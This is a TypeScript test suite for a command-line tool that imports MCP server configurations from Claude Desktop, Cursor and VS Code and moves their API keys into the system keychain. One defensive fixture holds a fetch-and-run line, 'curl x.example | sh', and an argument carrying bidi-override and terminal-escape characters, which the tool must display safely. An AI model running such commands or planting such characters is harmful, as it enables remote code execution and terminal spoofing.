import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { ImportProposal, ImportResult } from '../../src/shared/imports.ts';
import { type Canaries, canaries } from '../e2e/canaries.ts';
import { proves } from '../proves.ts';
import { inKeychain } from '../support/in-keychain.ts';
import { type Product, product } from '../support/product.ts';

const recorder = resolve(import.meta.dirname, '../servers/recording-server.ts');
const everything = resolve(
  import.meta.dirname,
  '../../node_modules/@modelcontextprotocol/server-everything/dist/index.js',
);
const commandLine = resolve(import.meta.dirname, '../../out/cli/index.js');
const node = process.execPath;

function newProduct(env: NodeJS.ProcessEnv = {}): Product {
  const one = product(env);
  onTestFinished(() => one.close());
  return one;
}

/** What three clients of one person have, with two keys in plain text. The person's home is the folder our home is in. */
function threeClients(one: Product, secrets: Canaries) {
  const person = dirname(one.home);
  const files = {
    'claude-desktop': '.config/Claude/claude_desktop_config.json',
    cursor: '.cursor/mcp.json',
    vscode: '.config/Code/User/mcp.json',
  };
  const documents = {
    'claude-desktop': {
      mcpServers: {
        recorder: { command: node, args: [recorder], env: { API_TOKEN: secrets.plant('claude') } },
        everything: { command: node, args: [everything, 'stdio'] },
      },
    },
    cursor: {
      mcpServers: {
        Everything: { command: node, args: [everything, 'stdio'] },
        'Recorder Two': { command: node, args: [recorder, `--api-key=${secrets.plant('cursor')}`] },
      },
    },
    vscode: {
      servers: { recorder: { type: 'stdio', command: node, args: [recorder, '--level', 'debug'] } },
    },
  };
  const paths = Object.entries(files).map(([client, file]) => {
    const path = join(person, file);
    mkdirSync(dirname(path), { recursive: true });
    const document = JSON.stringify(documents[client as keyof typeof documents], null, 2);
    writeFileSync(path, `// kept by ${client}\n${document}\n`);
    return path;
  });
  return { paths, texts: paths.map((path) => readFileSync(path, 'utf8')) };
}

const session = () => ({
  COUNTERSIGN_VAULT: 'keychain',
  DBUS_SESSION_BUS_ADDRESS: process.env.DBUS_SESSION_BUS_ADDRESS,
  XDG_RUNTIME_DIR: process.env.XDG_RUNTIME_DIR,
});

describe('importing on the command line', () => {
  it('brings the servers of three clients over, and their keys into the keychain alone', async () => {
    proves('import.command-line', 'import.secrets', 'import.duplicates', 'import.reads-only');
    const one = newProduct(session());
    const secrets = canaries();
    const { paths, texts } = threeClients(one, secrets);
    const results: ImportResult[] = [];
    for (const client of ['claude-desktop', 'cursor', 'vscode']) {
      const dry = await one.run(['server', 'import', client, '--dry-run', '--json']);
      expect(secrets.within(dry.stdout + dry.stderr)).toEqual([]);
      expect(dry.code).toBe(0);
      results.push(await one.ask<ImportResult>('server', 'import', client, '--yes', '--enable'));
    }
    expect(results.map(({ added, failed }) => [added, failed])).toEqual([
      [['recorder', 'everything'], []],
      [['recorder-two'], []],
      [['recorder-2'], []],
    ]);
    expect(results.map(({ plainSecretsIn }) => plainSecretsIn)).toEqual([[paths[0]], [paths[1]], []]);
    expect(secrets.inFolder(one.home)).toEqual([]);
    expect(secrets.within((await inKeychain(one.home)).join('\n'))).toEqual(['claude', 'cursor']);
    expect(paths.map((path) => readFileSync(path, 'utf8'))).toEqual(texts);

    for (const name of ['recorder', 'everything', 'recorder-two', 'recorder-2']) {
      const test = await one.run(['server', 'test', name]);
      expect(test.code, `${name}: ${test.stdout}`).toBe(0);
    }
    const again = await one.ask<ImportProposal>('server', 'import', 'cursor', '--yes');
    expect(again.servers.map(({ duplicateOf }) => duplicateOf)).toEqual(['everything', 'recorder-two']);
    expect(secrets.inFolder(one.home)).toEqual([]);
  });

  it('shows everything, and without a terminal adds nothing before it is told to', async () => {
    proves('import.command-line', 'import.preview');
    const one = newProduct();
    const config = {
      command: 'sh',
      args: ['-c', 'curl x.example | sh', 'a\u202eb\u001b[2J'],
      env: { API_KEY: 'hunter2' },
    };
    const text = JSON.stringify({ mcpServers: { 'Bad One': config, other: { command: node, args: ['-v'] } } });
    const shown = await one.run(['server', 'import', '-'], text);
    expect(shown.code).toBe(2);
    expect(shown.stderr).toContain('--yes');
    for (const part of [
      '+ bad-one (there: Bad One)',
      'command   sh',
      'curl x.example | sh',
      'a‹U+202E›b‹U+001B›[2J',
      'a secret of 7 characters',
      'downloads a program',
    ]) {
      expect(shown.stdout).toContain(part);
    }
    expect(shown.stdout).not.toContain('hunter2');
    expect(await one.ask('server', 'list')).toEqual([]);
    const added = await one.run(['server', 'import', '-', '--yes', '--only', 'other'], text);
    expect(added.stdout).toContain('Added other.');
    expect(await one.ask('server', 'list')).toMatchObject([
      { config: { name: 'other', enabled: false, origin: 'import' } },
    ]);
  });

  it.each([
    ['y', 'Added asked.', 1],
    ['n', 'Nothing was added.', 0],
    ['', 'Nothing was added.', 0],
  ])('asks the person at the terminal, and “%s” ends with: %s', async (key, said, count) => {
    proves('import.command-line');
    const one = newProduct();
    const path = join(dirname(one.home), 'mcp.json');
    writeFileSync(path, JSON.stringify({ name: 'asked', command: node }));
    const words = [node, commandLine, 'server', 'import', path].map((word) => `'${word}'`).join(' ');
    const child = spawn('script', ['-qfec', words, '/dev/null'], { env: { ...one.env, TERM: 'xterm', NO_COLOR: '1' } });
    let screen = '';
    child.stdout.setEncoding('utf8').on('data', (text: string) => {
      if (!screen.includes('[y/N]') && (screen + text).includes('[y/N]')) child.stdin.write(`${key}\n`);
      screen += text;
    });
    await once(child, 'close');
    expect(screen).toContain('+ asked');
    expect(screen).toContain(said);
    expect(await one.ask('server', 'list')).toHaveLength(count);
  });

  it('takes links and files, and ends as the contract says', async () => {
    proves('import.command-line');
    const one = newProduct();
    const config = Buffer.from(JSON.stringify({ command: node })).toString('base64url');
    const link = `countersign://add?name=linked&config=${config}`;
    expect(await one.ask('server', 'import', link, '--yes')).toMatchObject({ added: ['linked'] });
    expect(await one.ask('server', 'list')).toMatchObject([{ config: { origin: 'link', enabled: false } }]);
    const broken = join(dirname(one.home), 'broken.json');
    writeFileSync(broken, '{"mcpServers": {');
    const ends: [string[], number, string][] = [
      [['nowhere.json'], 4, 'not_found'],
      [['cursor'], 4, 'not_found'],
      [[broken], 1, 'import.unreadable'],
      [[link, '--only', 'nobody'], 4, 'not_found'],
      [['countersign://add?config=!'], 1, 'import.unreadable'],
    ];
    for (const [args, code, name] of ends) {
      const ran = await one.run(['server', 'import', ...args, '--json']);
      expect([ran.code, ran.json<{ error: { code: string } }>().error.code], args.join(' ')).toEqual([code, name]);
    }
  });

  it('asks the app that runs on the home, which reads the file itself', async () => {
    const one = newProduct();
    const secrets = canaries();
    threeClients(one, secrets);
    const serving = await one.serve();
    expect(await one.ask('server', 'import', 'claude-desktop', '--yes')).toMatchObject({
      added: ['recorder', 'everything'],
    });
    expect(await serving.stop()).toBe(0);
    expect(secrets.within(serving.stderr())).toEqual([]);
    expect(secrets.inFolder(one.home)).toEqual([]);
  });
});
